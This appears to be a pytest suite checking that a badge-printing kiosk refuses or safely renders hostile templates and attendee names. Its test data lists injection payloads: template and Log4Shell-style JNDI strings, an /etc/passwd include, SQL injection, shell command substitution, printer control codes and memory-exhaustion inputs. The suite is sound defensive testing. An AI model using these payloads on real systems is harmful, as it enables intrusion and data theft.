"""Hostile templates and names: nothing is opened, nothing is sent, nothing grows, no markup."""

from __future__ import annotations

import sys
import tracemalloc
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace

import pytest
import zxingcpp

from kiosk.domain.badge import BadgeText
from kiosk.domain.errors import KioskError
from kiosk.domain.registration import Category
from kiosk.services import badge_drawing
from kiosk.services.badge_template import load_template, read_template
from kiosk.ui.messages import error_text

TOKEN = "K7QWERTYUIOPASDFGHJKLZXCVB"
KIM = BadgeText(
    "세미나", "김형진", "KIM", "GIST", "책임", "참가자", Category.ATTENDEE, TOKEN, "A-1"
)
BARE = "width_mm = 80\nheight_mm = 50\n"
_watched: list[list[tuple[str, tuple[object, ...]]]] = []
_TOUCHING = ("open", "socket.", "subprocess.", "os.", "import", "exec", "compile", "urllib.")
_WARM_MEMORY = 8 * 1024 * 1024


def _hear(event: str, arguments: tuple[object, ...]) -> None:
    if _watched and event.startswith(_TOUCHING):
        _watched[-1].append((event, arguments))


sys.addaudithook(_hear)


@contextmanager
def touching_nothing() -> Iterator[None]:
    """Fail where a file is opened, a socket made or a program started meanwhile."""
    _watched.append([])
    try:
        yield
    finally:
        heard = _watched.pop()
    assert heard == []


def field(text: str) -> str:
    place = "left_mm = 5\ntop_mm = 5\nwidth_mm = 70\nheight_mm = 12\nsize_mm = 8\nleast_mm = 3\n"
    return f"{BARE}[field.line]\ntext = {text}\n{place}"


@pytest.mark.parametrize(
    "text",
    [
        "{name.__init__.__globals__}",
        "{name!s:>888888888}",
        "{name:888888888888}",
        "{0.__class__.__mro__}",
        "{{config}}",
        "{% for x in range(999999999) %}a{% endfor %}",
        "#{7*7}",
        "<%= name %>{}",
        "%(name)888888888s",
        "${name:9999}",
        "${jndi:ldap://a.example/x}",
        "$name.__class__",
        "$name $unknown",
        "${__import__}",
        "$name${name${name}}",
    ],
)
def test_a_hostile_text_is_refused_in_words_and_by_its_key(text: str) -> None:
    load_template("100x70")
    with touching_nothing(), pytest.raises(KioskError) as caught:
        read_template("mine", field(f"'''{text}'''"))
    assert caught.value.code == "TEMPLATE_WRONG"
    assert caught.value.facts["key"] == "field.line.text"
    assert "field.line.text" in error_text(caught.value)


@pytest.mark.parametrize(
    "text",
    [
        '["$name"]',
        "{ include = '/etc/passwd' }",
        "1e999",
        "true",
        '"\\u0000$name"',
        '"\\u001b[2J"',
        '"' + "$name " * 100 + '"',
    ],
)
def test_what_is_no_plain_line_of_text_is_refused(text: str) -> None:
    with touching_nothing(), pytest.raises(KioskError) as caught:
        read_template("mine", field(text))
    assert caught.value.facts["key"] == "field.line.text"


@pytest.mark.parametrize(
    "text",
    [
        "width_mm = 1e308\nheight_mm = 1e308\n",
        f"{BARE}[sheet]\ncolumns = 999999999\nrows = 999999999\n",
        f"{BARE}x = " + "[" * 5_000 + "]" * 5_000,
        f"{BARE}" + "[" + "a." * 5_000 + "a]\n",
        f"{BARE}field = 3\n",
        f"{BARE}[field]\n" + "".join(f"f{number} = {{}}\n" for number in range(3_000)),
        f'{BARE}[qr]\nleft_mm = 0\ntop_mm = 0\nsize_mm = 20\nurl = "http://a.example"\n',
        'include = "/etc/passwd"\n',
        '"' + "\\u0000" * 9_000 + '" = 1\n',
        "x" * 200_000,
    ],
)
def test_a_file_made_to_hurt_is_refused_within_little_memory(text: str) -> None:
    load_template("100x70")
    tracemalloc.start()
    try:
        with pytest.raises(KioskError) as caught:
            read_template("mine", text)
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert caught.value.code == "TEMPLATE_WRONG"
    assert caught.value.facts["key"]
    assert most < _WARM_MEMORY


@pytest.mark.parametrize(
    "text", ["^XA^FD$name^FS^XZ^JUF", "~JR $name", "\\x1b@ $name", "<b>$name</b>"]
)
def test_a_printer_command_or_markup_is_letters_on_the_card(text: str) -> None:
    template = read_template("mine", field(f"'''{text}'''"))
    drawn = badge_drawing.draw(KIM, template, 203, colour=False)
    said = read_template("mine", field("'''$organisation'''"))
    same = badge_drawing.draw(
        replace(KIM, organisation=text.replace("$name", KIM.name)), said, 203, colour=False
    )
    assert drawn.tobytes() == same.tobytes()


NAMES = [
    '<img src="file:///etc/hosts">',
    '<img src="\\\\host\\share\\x.png">이',
    "<b>박</b>&amp;<br>",
    "R&D팀 &김",
    "^XA^FO0,0^FD^XZ~JR",
    "\x10\x04\x01이",
    "{name.__class__.__mro__}",
    "${event}",
    "$name",
    "%(name)s%n%n",
    "`id`;$(id)",
    "[[이름]]",
    "=HYPERLINK('http://a.example')",
    "'; DROP TABLE registrations;--",
    "이\u202egnp.exe",
    "Z\u0300\u0301\u0302\u0303\u0304algo",
    "\ufdfa",
    "👩\u200d🚀 우주",
    "가" * 80,
    "W" * 200,
    "\ud800",
    "\U0010ffff",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_touches_nothing_and_the_code_still_reads(name: str) -> None:
    text = replace(KIM, name=name, organisation=name, job_title=name, name_latin=name)
    template = load_template("100x70")
    badge_drawing.draw(text, template, 203, colour=False)  # fonts and tables are read once
    with touching_nothing():
        image = badge_drawing.draw(text, template, 203, colour=False)
    read = zxingcpp.read_barcodes(image.convert("L"), formats=zxingcpp.BarcodeFormat.QRCode)
    assert [code.text for code in read] == [TOKEN]


def test_a_name_that_is_a_placeholder_stays_its_letters() -> None:
    template = load_template("100x70")
    dollar = badge_drawing.draw(replace(KIM, name="$event"), template)
    assert dollar.tobytes() != badge_drawing.draw(replace(KIM, name=KIM.event), template).tobytes()


def test_a_resolution_that_would_take_gigabytes_is_refused() -> None:
    wall = read_template("wall", "width_mm = 300\nheight_mm = 300\n")
    with pytest.raises(KioskError) as caught:
        badge_drawing.draw(KIM, wall, 1_200)
    assert caught.value.code == "BADGE_TOO_LARGE"
    assert "lower resolution" in error_text(caught.value)
